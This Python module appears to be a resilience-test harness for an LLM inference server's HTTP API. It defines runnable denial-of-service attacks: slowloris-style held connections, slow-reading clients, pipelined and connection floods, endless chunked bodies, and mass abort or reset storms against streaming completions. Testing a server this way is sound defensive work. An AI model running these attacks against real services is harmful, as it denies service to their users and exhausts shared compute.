"""Attacks by how bytes are sent and read: slowly, never, endlessly, all at once, by half."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator, Callable, Coroutine
from contextlib import asynccontextmanager, suppress
from typing import Any, TypeVar

from hostile_bodies import array, text
from hostile_prompts import LONG_PROMPT, MAX_TOKENS, generous
from hostile_target import (
    CHAT,
    COMPLETIONS,
    Attack,
    Target,
    chat,
    completion,
    failure_of,
    status_of,
)
from raw_http import Connection, request

T = TypeVar("T")

PATIENCE_S = 1.0
"""How long a client that sends nothing more waits for an answer that may never come."""
LARGEST_BODY = 8 << 20
"""Bytes: `max_body_bytes` of the default application, which holds eight of them."""
SMALL_BUFFER = 4096
"""Of a client that reads slowly; otherwise its kernel reads for it."""


# --- connections that are held -------------------------------------------------------------------


@asynccontextmanager
async def beside(work: Coroutine[Any, Any, T]) -> AsyncIterator[asyncio.Task[T]]:
    """Do something beside a block, until the block ends; how it fails does not matter."""
    task = asyncio.create_task(work)
    try:
        yield task
    finally:
        task.cancel()
        await asyncio.gather(task, return_exceptions=True)


async def hold(to: Target, opening: bytes, drip: bytes = b"", period_s: float = 1.0) -> None:
    """Send the beginning of a request and drip more, until the time is over or it is answered."""
    outcome = "held"
    try:
        with to.sending(opening):
            async with await Connection.open(to.address) as made, beside(made.head()) as answering:
                await made.send(opening)
                while not to.is_over and not answering.done():
                    await asyncio.wait([answering], timeout=period_s)
                    await made.send(drip)
                if answering.done():
                    outcome = str(answering.result()[0])
    except OSError as error:
        outcome = failure_of(error)
    finally:
        to.outcomes[outcome] += 1


def held(num: int, opening: bytes, drip: bytes = b"", period_s: float = 1.0) -> Attack:
    """Return the attack that holds so many connections at once."""

    async def attack(to: Target) -> None:
        await asyncio.gather(*(hold(to, opening, drip, period_s) for _ in range(num)))

    return Attack(attack, times=2)


def without_end(body: bytes, head: bytes = b"") -> bytes:
    """Return the beginning of a request whose body is said to be longer than it is."""
    head = head or b"Content-Length: 8000000"
    start = b"POST /v1/completions HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n"
    return start + head + b"\r\n\r\n" + body


CHUNKED = b"Transfer-Encoding: chunked"
HELD = {
    "slow-bodies": held(300, without_end(b"{"), b" "),
    "slow-chunks": held(300, without_end(b"1\r\n{\r\n", CHUNKED), b"1\r\n \r\n"),
    "slow-headers": held(300, b"GET /health HTTP/1.1\r\nHost: a\r\n", b"X-A: b\r\n"),
    "slow-request-lines": held(300, b"GET /", b"a"),
    "slow-next-requests": held(300, request("GET", "/nowhere")[:-2], b"X-A: b\r\n"),
    "silent-connections": held(1000, b""),
    "silent-bodies": held(300, without_end(b"")),
    "half-read-bodies": held(20, without_end(b"[" + b"1," * 3_900_000)),
    "bodies-but-the-last-byte": held(
        8, without_end(b"{" + b" " * (LARGEST_BODY - 2), b"Content-Length: %d" % LARGEST_BODY)
    ),
    "waiting-for-continue": held(
        300, without_end(b"", b"Content-Length: 9\r\nExpect: 100-continue")
    ),
    "tls-hello": held(100, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(500)),
    "h2c-preface": held(100, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(9)),
}


# --- answers that are not read -------------------------------------------------------------------


async def read_slowly(to: Target, data: bytes, num_bytes: int, period_s: float = 0.1) -> None:
    """Ask and read so many bytes in each period, until the time is over; 0 reads none."""
    outcome = "held"
    try:
        async with await Connection.open(to.address, receive_buffer=SMALL_BUFFER) as made:
            await made.send(data)
            while not to.is_over and not made.reader.at_eof():
                await asyncio.sleep(period_s)
                with suppress(TimeoutError):
                    async with asyncio.timeout(period_s):
                        await made.reader.read(num_bytes)
            outcome = "ended" if made.reader.at_eof() else "held"
    except OSError as error:
        outcome = failure_of(error)
    finally:
        to.outcomes[outcome] += 1


def readers(num: int, num_bytes: int, body: Callable[[], bytes]) -> Attack:
    """Return the attack of so many clients that read so slowly."""

    async def attack(to: Target) -> None:
        data = request("POST", COMPLETIONS, body())
        await asyncio.gather(*(read_slowly(to, data, num_bytes) for _ in range(num)))

    return Attack(attack, is_load=True, times=3)


def wide_stream() -> bytes:
    """Return the body of a request whose answer is the largest stream there is."""
    return generous(n=128, stream=True)


def wide_answer() -> bytes:
    """Return the body of a small request with a large answer."""
    return completion(prompt=LONG_PROMPT, prompt_logprobs=20, n=64)


READERS = {
    "unread-streams": readers(2, 0, wide_stream),
    "unread-answers": readers(4, 0, wide_answer),
    "unread-small-streams": readers(200, 0, lambda: generous(stream=True)),
    "slow-readers": readers(60, 100, lambda: generous(stream=True)),
    "slow-readers-wide": readers(2, 100, wide_stream),
    "slow-readers-answers": readers(4, 100, wide_answer),
}


# --- much of it ----------------------------------------------------------------------------------


async def pipeline(to: Target, data: bytes, method: str, num: int = 1000) -> None:
    """Send many requests in one go and read their answers in turn."""
    num_missing, failure = num, "unanswered"
    try:
        async with await Connection.open(to.address) as made, beside(made.send(data * num)):
            while num_missing:
                to.outcomes[status_of(await made.answer(method))] += 1
                num_missing -= 1
    except OSError as error:
        failure = failure_of(error)
    finally:
        if num_missing:
            to.outcomes[failure] += num_missing


def pipelined(data: bytes, method: str = "GET", num: int = 1000) -> Attack:
    """Return the attack that pipelines one request."""
    return Attack(lambda to: to.again(lambda: pipeline(to, data, method, num)))


async def endless_chunks(to: Target, chunk: bytes) -> None:
    """Send chunks as fast as they are taken, without an end."""
    outcome = "held"
    try:
        async with await Connection.open(to.address) as made, beside(made.head()) as answering:
            await made.send(without_end(b"", CHUNKED))
            while not to.is_over and not answering.done():
                await made.send(b"%x\r\n%s\r\n" % (len(chunk), chunk) * (1 + 65536 // len(chunk)))
            if answering.done():
                outcome = str(answering.result()[0])
    except OSError as error:
        outcome = failure_of(error)
    finally:
        to.outcomes[outcome] += 1


def chunks(size: int, num_at_once: int) -> Attack:
    """Return the attack by bodies of chunks of one size."""
    return Attack(lambda to: to.again(lambda: endless_chunks(to, b" " * size), num_at_once))


async def connect_only(to: Target) -> None:
    """Open a connection and close it."""
    try:
        (await Connection.open(to.address)).close()
        to.outcomes["opened"] += 1
    except OSError as error:
        to.outcomes[failure_of(error)] += 1


def flood(method: str, *paths: str, num_at_once: int = 20) -> Attack:
    """Return the attack that asks for cheap things as fast as they are given."""

    async def all_paths(to: Target) -> None:
        for path in paths:
            await to.exchange(request(method, path), method=method)

    return Attack(lambda to: to.again(lambda: all_paths(to), num_at_once))


FLOODS = {
    "pipelined-gets": pipelined(request("GET", "/v1/models")),
    "pipelined-posts": pipelined(request("POST", COMPLETIONS, b"{}"), "POST"),
    "pipelined-completions": Attack(
        lambda to: to.again(
            lambda: pipeline(to, request("POST", COMPLETIONS, completion()), "POST", 100),
            num_at_once=10,
        ),
        is_load=True,
    ),
    "endless-chunks": chunks(65536, 4),
    "endless-small-chunks": chunks(1, 2),
    "connections": Attack(lambda to: to.again(lambda: connect_only(to), num_at_once=50)),
    "flood-health": flood("GET", "/health", "/v1/models", "/ready"),
    "flood-nowhere": flood("GET", "/nowhere", "/v1/completions"),
    "flood-empty-posts": flood("POST", CHAT, COMPLETIONS),
}


# --- clients that leave --------------------------------------------------------------------------


async def leave(to: Target, data: bytes, *, after: bytes | None, is_reset: bool = False) -> None:
    """Send a request and close: at once, or when so much of the answer has been seen."""
    outcome = "left"
    try:
        async with await Connection.open(to.address) as made:
            await made.send(data)
            if after is not None:
                status, headers = await made.head()
                outcome = str(status)
                if status == 200 and after:
                    async for part in made.parts(headers):
                        if after in part:
                            break
            if is_reset:
                made.reset()
    except OSError as error:
        outcome = failure_of(error)
    finally:
        to.outcomes[outcome] += 1


def storm(num: int, body: Callable[[], bytes], after: bytes | None, **how: Any) -> Attack:
    """Return the attack of so many clients that ask and leave together, again and again."""
    headers = how.pop("headers", {})

    async def attack(to: Target) -> None:
        data = request("POST", COMPLETIONS, body(), headers)
        await to.again(
            lambda: asyncio.gather(*(leave(to, data, after=after, **how) for _ in range(num)))
        )

    return Attack(attack, is_load=True)


async def half_close(to: Target) -> None:
    """Say that nothing more will be sent, and wait for the answer."""
    outcome = "closed"
    try:
        async with await Connection.open(to.address) as made:
            await made.send(request("POST", COMPLETIONS, completion(max_tokens=20)))
            made.writer.write_eof()
            async with asyncio.timeout(PATIENCE_S):
                outcome = str((await made.answer()).status)
    except TimeoutError:
        outcome = "silent"
    except OSError as error:
        outcome = failure_of(error)
    finally:
        to.outcomes[outcome] += 1


async def burst(to: Target) -> None:
    """Ask ordinary questions at ten times what is answered, without waiting for answers."""
    body = chat("Count from 3 to 30.", max_tokens=100, temperature=0, stream=True)
    asked: list[asyncio.Future[object]] = []
    while not to.is_over:
        asked += [asyncio.ensure_future(to.post(CHAT, body)) for _ in range(20)]
        await asyncio.sleep(0.1)
    await asyncio.gather(*asked)


def stream() -> bytes:
    """Return the body of a long stream."""
    return completion(max_tokens=MAX_TOKENS, ignore_eos=True, stream=True)


STORMS = {
    "abort-streams": storm(500, stream, b"data:"),
    "abort-heads": storm(500, stream, b""),
    "abort-unanswered": storm(500, stream, None),
    "abort-whole-answers": storm(500, lambda: completion(max_tokens=MAX_TOKENS), None),
    "abort-unheard": storm(500, stream, None, headers={"X-Request-Disconnect-Disabled": "?1"}),
    "abort-wide": storm(20, wide_stream, b"data:"),
    "abort-prompts": storm(100, lambda: completion(prompt=LONG_PROMPT), None),
    "abort-8mb": storm(20, lambda: completion(prompt=text("word ")), None),
    "reset-streams": storm(200, stream, b"data:", is_reset=True),
    "reset-8mb": storm(20, lambda: completion(prompt=array("1")), None, is_reset=True),
    "half-closed": Attack(lambda to: to.again(lambda: half_close(to), num_at_once=10)),
    "burst": Attack(burst, is_load=True),
}

ATTACKS = HELD | READERS | FLOODS | STORMS
